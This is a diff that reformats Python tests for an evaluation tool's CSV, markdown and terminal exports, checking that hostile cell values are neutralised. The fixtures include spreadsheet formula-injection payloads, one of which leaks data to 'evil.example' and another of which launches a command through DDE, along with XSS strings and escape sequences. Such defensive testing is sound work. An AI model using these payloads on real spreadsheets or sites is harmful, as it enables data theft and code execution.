@@ -15,8 +15,14 @@ from cache.store import Store
 from dashboard import exports
 from tests.pipeline_helpers import cli, write_image
 
-FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3+cmd",
-            "@SUM(1+1)*cmd", "\t=1+1", "\r=1+1"]
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3+cmd",
+    "@SUM(1+1)*cmd",
+    "\t=1+1",
+    "\r=1+1",
+]
 
 
 def _cells(data: bytes) -> list[list[str]]:
@@ -24,16 +30,22 @@ def _cells(data: bytes) -> list[list[str]]:
 
 
 def test_csv_downloads_neutralise_formulas_and_keep_numbers() -> None:
-    df = pd.DataFrame({"model": [*FORMULAS, "openai:gpt-4o", "-0.25", "'quoted"],
-                       "delta": [-1.5, -2.0, 3.0, -4.25, 0.0, 1e-5, -7.0, -0.5, 2.0],
-                       "=header": ["x"] * 9})
+    df = pd.DataFrame(
+        {
+            "model": [*FORMULAS, "openai:gpt-4o", "-0.25", "'quoted"],
+            "delta": [-1.5, -2.0, 3.0, -4.25, 0.0, 1e-5, -7.0, -0.5, 2.0],
+            "=header": ["x"] * 9,
+        }
+    )
     rows = _cells(exports.to_csv(df))
     assert rows[0] == ["model", "delta", "'=header"]
     texts = [r[0] for r in rows[1:]]
     # a CR inside a text cell becomes a (quoted) newline, so every reader splits rows alike
     assert texts[: len(FORMULAS)] == ["'" + f.replace("\r", "\n") for f in FORMULAS]
-    assert texts[len(FORMULAS):] == ["openai:gpt-4o", "-0.25", "''quoted"]  # a plain number stays a number
-    assert [float(r[1]) for r in rows[1:]] == list(df["delta"])  # numeric column untouched: "-1.5", not "'-1.5"
+    assert texts[len(FORMULAS) :] == ["openai:gpt-4o", "-0.25", "''quoted"]  # a plain number stays a number
+    assert [float(r[1]) for r in rows[1:]] == list(
+        df["delta"]
+    )  # numeric column untouched: "-1.5", not "'-1.5"
     assert rows[1][1] == "-1.5"
 
 
@@ -51,8 +63,12 @@ def test_manifest_csv_is_spreadsheet_safe_and_reads_back_exactly(tmp_path: Path)
     from ingest.manifest import read_manifest
 
     rows = read_manifest(manifest)
-    assert {(r.modality, r.source) for r in rows} == {("@fundus", ""), ("@fundus", source), ("fundus", ""),
-                                                      ("fundus", source)}
+    assert {(r.modality, r.source) for r in rows} == {
+        ("@fundus", ""),
+        ("@fundus", source),
+        ("fundus", ""),
+        ("fundus", source),
+    }
     assert all((tmp_path / r.image_path).is_file() for r in rows)  # every path as on disk
 
 
@@ -64,9 +80,17 @@ def _md_cells(line: str) -> list[str]:
 
 
 def test_markdown_export_cells_render_as_text() -> None:
-    hostile = ["<img src=x onerror=alert(1)>", "[click](http://evil.example)", "![pic](http://evil.example/p.png)",
-               "see http://evil.example now", "www.evil.example", "<script>alert(1)</script>", "a|b`c`",
-               "[ref]: http://evil.example", "x&#60;b&#62;y"]
+    hostile = [
+        "<img src=x onerror=alert(1)>",
+        "[click](http://evil.example)",
+        "![pic](http://evil.example/p.png)",
+        "see http://evil.example now",
+        "www.evil.example",
+        "<script>alert(1)</script>",
+        "a|b`c`",
+        "[ref]: http://evil.example",
+        "x&#60;b&#62;y",
+    ]
     md = exports.to_markdown(pd.DataFrame({"source": hostile, "n": range(len(hostile))}))
     lines = md.splitlines()
     for line, text in zip(lines[2:], hostile, strict=True):
@@ -87,14 +111,33 @@ def test_printed_tables_strip_terminal_escapes(tmp_path: Path) -> None:
     proc = cli("ingest", "scan", str(data), "--out", str(tmp_path / "m.csv"))
     store = Store(tmp_path / "store")
     sha = hashlib.sha256(b"x").hexdigest()
-    store.append([{"key": sha, "run_id": "r", "created_at": datetime(2026, 1, 1, tzinfo=UTC), "provider": "compat",
-                   "model": f"compat:{ESCAPES}@http://h/v1", "prompt_id": "p", "prompt_sha256": sha,
-                   "prompt_text": "p", "image_sha256": sha, "modality": f"fundus{ESCAPES}", "truth": "real",
-                   "repeat": 0, "status": "ok", "label": "real", "raw_text": "Real."}])
+    store.append(
+        [
+            {
+                "key": sha,
+                "run_id": "r",
+                "created_at": datetime(2026, 1, 1, tzinfo=UTC),
+                "provider": "compat",
+                "model": f"compat:{ESCAPES}@http://h/v1",
+                "prompt_id": "p",
+                "prompt_sha256": sha,
+                "prompt_text": "p",
+                "image_sha256": sha,
+                "modality": f"fundus{ESCAPES}",
+                "truth": "real",
+                "repeat": 0,
+                "status": "ok",
+                "label": "real",
+                "raw_text": "Real.",
+            }
+        ]
+    )
     outputs = [proc.stdout + proc.stderr]
     for command in ("stats", "metrics", "methods"):
         run = cli("cache", "--store", str(store.root), command)
         outputs.append(run.stdout + run.stderr)
     for text in outputs:
-        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(text[:300])
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", text), repr(
+            text[:300]
+        )
         assert "RED" in text  # the visible characters stay
